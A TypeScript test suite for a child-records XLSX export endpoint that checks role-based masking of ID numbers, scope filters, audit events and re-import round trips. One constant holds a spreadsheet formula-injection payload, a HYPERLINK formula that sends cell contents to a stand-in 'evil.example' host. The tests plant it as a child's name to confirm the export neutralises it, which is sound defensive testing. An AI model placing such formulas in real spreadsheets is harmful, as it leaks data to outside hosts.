import { maskIdNumber } from '@shouwang/shared';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type Client, loginAs, type TestApp } from '../../test/app';
import { buildChild, buildCountyTree, buildUser, type CountyTree } from '../../test/factories';
import { auditEvent } from '../audit/audit.table';
import { fullRow, idFor, loadXlsx, postImport, xlsxOfRecords } from './children-sheet.test-support';

let t: TestApp;
let tree: CountyTree;
let countyAdmin: Client;
let supervisor: Client;
let teacherA: Client;
let teacherB: Client;
const injection = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")';

beforeAll(async () => {
  t = await buildTestApp();
  tree = await buildCountyTree(t.db, '导出县');
  countyAdmin = await loginAs(t, await buildUser(t.db, [{ role: 'county_admin', org: tree.county }]));
  supervisor = await loginAs(t, await buildUser(t.db, [{ role: 'supervisor', org: tree.township }]));
  teacherA = await loginAs(t, await buildUser(t.db, [{ role: 'class_teacher', org: tree.classA }]));
  teacherB = await loginAs(t, await buildUser(t.db, [{ role: 'class_teacher', org: tree.classB }]));
  const base = { 学校: tree.school.name, '村(社区)': tree.village.name };
  const file = await xlsxOfRecords([
    fullRow({ ...base, 父亲身份证号: idFor('19880212', 31), 监护人电话: '0731-84567892' }),
    fullRow({ ...base, 姓名: '李四', 公民身份号码: idFor('20150301', 41), 父亲电话: '+86 139 0013 9001' }),
  ]);
  const res = await postImport(teacherA, file, 'mode=commit');
  if (res.statusCode !== 200) throw new Error(res.body);
  await buildChild(t.db, { name: injection, class: tree.classB, idNumber: idFor('20160101', 51) });
  await buildChild(t.db, { name: '乙镇儿童', class: tree.otherClass });
});
afterAll(() => t.close());

async function sheetOf(client: Client, query = '') {
  const res = await client.get(`/api/children/export.xlsx${query}`);
  expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
  const workbook = await loadXlsx(res.rawPayload);
  const sheet = workbook.worksheets[0]!;
  const headers = (sheet.getRow(1).values as string[]).slice(1);
  const rows = [];
  for (let r = 2; r <= sheet.rowCount; r++) {
    const values = sheet.getRow(r).values as unknown[];
    rows.push(Object.fromEntries(headers.map((h, i) => [h, values[i + 1]])));
  }
  return { res, rows, sheet, headers };
}

const exportAudits = () => t.db.select().from(auditEvent).where(eq(auditEvent.event, 'child.exported'));

describe('GET /api/children/export.xlsx', () => {
  it('masks ID numbers for a role without the grant, neutralises formulas, honours scope, audited', async () => {
    const before = (await exportAudits()).length;
    const { res, rows, sheet } = await sheetOf(supervisor);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="/);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(rows.map((r) => r.姓名)).toEqual(expect.arrayContaining(['张小明', '李四', `'${injection}`]));
    expect(rows).toHaveLength(3);
    const zhang = rows.find((r) => r.姓名 === '张小明')!;
    expect(zhang.公民身份号码).toBe(maskIdNumber(idFor('20160615', 13)));
    expect(zhang.父亲身份证号).toMatch(/^430\*+\d{3}[\dX]$/);
    expect(zhang.父亲电话).toBe('13800138000、0731-84567891');
    expect(zhang.儿童类别).toBe('留守儿童（父母双方外出）');
    expect(zhang.出生日期).toEqual(new Date('2016-06-15T00:00:00Z'));
    const nameColumn = 2;
    const injected = [...Array(sheet.rowCount).keys()]
      .map((i) => sheet.getRow(i + 1).getCell(nameColumn))
      .find((c) => String(c.value).includes('HYPERLINK'))!;
    expect(injected.type).toBe(3); // ExcelJS.ValueType.String, not Formula
    expect(injected.formula).toBeUndefined();
    expect(JSON.stringify(rows)).not.toContain(idFor('20160615', 13));
    const audits = await exportAudits();
    expect(audits).toHaveLength(before + 1);
    expect(audits.at(-1)!.diff).toMatchObject({ format: 'shouwang', count: 3, fullIdNumbers: 0 });
    expect((await supervisor.get('/api/children/export.xlsx?idNumbers=full')).statusCode).toBe(403);
  });

  it('gives full numbers to holders of child.read_id_number, each audited per child', async () => {
    const { rows } = await sheetOf(countyAdmin, '?idNumbers=full');
    const zhang = rows.find((r) => r.姓名 === '张小明')!;
    expect(zhang.公民身份号码).toBe(idFor('20160615', 13));
    expect(zhang.父亲身份证号).toBe(idFor('19880212', 31));
    const viewed = await t.db
      .select()
      .from(auditEvent)
      .where(and(eq(auditEvent.event, 'child.id_number_viewed'), eq(auditEvent.targetType, 'child')));
    expect(viewed.filter((a) => (a.diff as { via?: string }).via === 'export')).toHaveLength(4);
  });

  it('applies the list filters and scope', async () => {
    expect((await sheetOf(teacherB)).rows.map((r) => r.姓名)).toEqual([`'${injection}`]);
    expect((await sheetOf(countyAdmin, `?classId=${tree.classA.id}`)).rows).toHaveLength(2);
    expect((await sheetOf(countyAdmin, '?q=ls')).rows.map((r) => r.姓名)).toEqual(['李四']);
  });

  it('re-imports its own export (both layouts) without a change', async () => {
    for (const format of ['shouwang', 'mca']) {
      const res = await teacherA.get(`/api/children/export.xlsx?format=${format}&classId=${tree.classA.id}`);
      expect(res.statusCode).toBe(200);
      const dry = await postImport(teacherA, res.rawPayload);
      expect(dry.json(), format).toMatchObject({ format, unchanged: 2, created: 0, updated: 0, problems: [] });
    }
    const { rows, headers } = await sheetOf(teacherA, '?format=mca');
    expect(headers).toHaveLength(68);
    expect(rows[0]).toMatchObject({ 儿童类别: '留守', 父母双方同时外出: '是', '父亲务工地点(省市)': '广东省深圳市' });
  });
});
